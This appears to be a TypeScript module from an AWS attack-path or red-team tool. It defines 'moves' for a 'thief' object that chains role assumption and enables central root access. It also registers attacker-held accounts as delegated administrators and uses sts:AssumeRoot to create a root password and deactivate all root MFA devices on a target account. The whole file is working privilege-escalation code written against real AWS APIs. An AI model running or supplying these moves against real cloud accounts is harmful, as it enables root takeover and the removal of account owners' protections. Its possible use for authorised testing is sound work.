import {
  CreateLoginProfileCommand,
  DeactivateMFADeviceCommand,
  EnableOrganizationsRootCredentialsManagementCommand,
  ListMFADevicesCommand,
} from "@aws-sdk/client-iam";
import { EnableAWSServiceAccessCommand, RegisterDelegatedAdministratorCommand } from "@aws-sdk/client-organizations";
import { AssumeRoleCommand, AssumeRootCommand } from "@aws-sdk/client-sts";
import { type Keys, keysOf, type Move, type Thief } from "./thief.ts";

async function assumeRoot(thief: Thief, move: string, keys: Keys, task: string, who: string): Promise<Keys | null> {
  const client = thief.clientsFor(keys).sts;
  const answer = await thief.call(move, `sts:AssumeRoot ${task} as ${who}`, () =>
    client.send(
      new AssumeRootCommand({
        TargetPrincipal: thief.target,
        TaskPolicyArn: { arn: `arn:aws:iam::aws:policy/root-task/${task}` },
      }),
    ),
  );
  return keysOf(answer?.Credentials);
}

const allowRecovery: Move = {
  name: "allow a root password again",
  play: async (thief) => {
    const move = "allow a root password again";
    if (thief.account(thief.target)?.root.password !== null) return false;
    for (const { arn, keys } of thief.held) {
      const session = await assumeRoot(thief, move, keys, "IAMCreateRootUserPassword", arn);
      if (session === null) continue;
      const client = thief.clientsFor(session).iam;
      const made = await thief.call(move, "iam:CreateLoginProfile as root", () =>
        client.send(new CreateLoginProfileCommand({})),
      );
      if (made !== null) return thief.note(`allowed a root password again as ${arn}`);
    }
    return false;
  },
};

const removeMfa: Move = {
  name: "remove root's MFA",
  play: async (thief) => {
    const move = "remove root's MFA";
    if (thief.account(thief.target)?.root.devices.length === 0) return false;
    for (const { arn, keys } of thief.held) {
      const session = await assumeRoot(thief, move, keys, "IAMDeleteRootUserCredentials", arn);
      if (session === null) continue;
      const client = thief.clientsFor(session).iam;
      const removed = await thief.call(move, "iam:DeactivateMFADevice as root", async () => {
        const { MFADevices } = await client.send(new ListMFADevicesCommand({}));
        for (const { SerialNumber } of MFADevices ?? []) {
          await client.send(new DeactivateMFADeviceCommand({ UserName: undefined, SerialNumber }));
        }
        return MFADevices?.length ?? 0;
      });
      if (removed !== null && removed > 0) return thief.note(`removed root's MFA as ${arn}`);
    }
    return false;
  },
};

const turnOn: Move = {
  name: "turn central root access on",
  play: async (thief) => {
    const { organization } = thief.aws.state;
    if (organization === null) return false;
    let isNew = false;
    for (const { arn, keys } of thief.held) {
      const org = thief.clientsFor(keys).organizations;
      for (const ServicePrincipal of ["iam.amazonaws.com", "account.amazonaws.com"]) {
        if (organization.trusted.has(ServicePrincipal)) continue;
        const done = await thief.call("turn central root access on", `EnableAWSServiceAccess as ${arn}`, () =>
          org.send(new EnableAWSServiceAccessCommand({ ServicePrincipal })),
        );
        isNew ||= done !== null;
      }
      if (organization.rootFeatures.has("RootCredentialsManagement")) continue;
      const iam = thief.clientsFor(keys).iam;
      const done = await thief.call("turn central root access on", `EnableOrganizationsRoot… as ${arn}`, () =>
        iam.send(new EnableOrganizationsRootCredentialsManagementCommand({})),
      );
      isNew ||= done !== null;
    }
    return isNew && thief.note("turned central access on");
  },
};

/** Makes the account of another principal he holds a delegate. */
const registerDelegate: Move = {
  name: "register a delegate",
  play: async (thief) => {
    const { organization } = thief.aws.state;
    if (organization === null) return false;
    let isNew = false;
    const homes = new Set(thief.held.map(({ account }) => account).filter((id) => id !== organization.managementId));
    for (const { arn, keys } of thief.held) {
      const client = thief.clientsFor(keys).organizations;
      for (const AccountId of homes) {
        for (const ServicePrincipal of ["iam.amazonaws.com", "account.amazonaws.com"]) {
          const known = [...(organization.delegates.get(ServicePrincipal)?.keys() ?? [])].some(
            (id) => id === AccountId,
          );
          if (known || AccountId === thief.target) continue;
          const done = await thief.call("register a delegate", `RegisterDelegatedAdministrator as ${arn}`, () =>
            client.send(new RegisterDelegatedAdministratorCommand({ AccountId, ServicePrincipal })),
          );
          isNew ||= done !== null;
        }
      }
    }
    return isNew && thief.note("registered a delegate");
  },
};

/** Above this number of accounts only those are looked at whose roles have powers over the target. */
const fewAccounts = 10;

/** Every role whose trust lets one of his principals in; in large organizations of the target, management and delegates. */
const assumeRoles: Move = {
  name: "assume roles",
  play: async (thief) => {
    const { organization, accounts } = thief.aws.state;
    const delegates = [...(organization?.delegates.values() ?? [])].flatMap((each) => [...each.keys()]);
    const homes = new Set<string>([thief.target, organization?.managementId ?? "", ...delegates]);
    let isNew = false;
    for (const account of accounts.values()) {
      if (accounts.size > fewAccounts && !homes.has(account.id)) continue;
      for (const role of account.iam.roles.values()) {
        const arn = `arn:aws:iam::${account.id}:role${role.path}${role.name}`;
        if (thief.held.some((each) => each.arn === arn)) continue;
        for (const by of thief.held.slice()) {
          const door = `${by.arn} ${arn}`;
          if (thief.shut.has(door)) continue;
          const client = thief.clientsFor(by.keys).sts;
          const answer = await thief.call("assume roles", `sts:AssumeRole ${arn} as ${by.arn}`, () =>
            client.send(new AssumeRoleCommand({ RoleArn: arn, RoleSessionName: "thief" })),
          );
          const keys = keysOf(answer?.Credentials);
          if (keys === null) {
            thief.shut.add(door);
            continue;
          }
          thief.held.push({ arn, account: account.id, keys });
          isNew = thief.note(`assumed ${arn}`);
          break;
        }
      }
    }
    return isNew;
  },
};

/** What central root access and the organization's doors lend themselves to. */
export const centralRootMoves: readonly Move[] = [assumeRoles, turnOn, registerDelegate, allowRecovery, removeMfa];
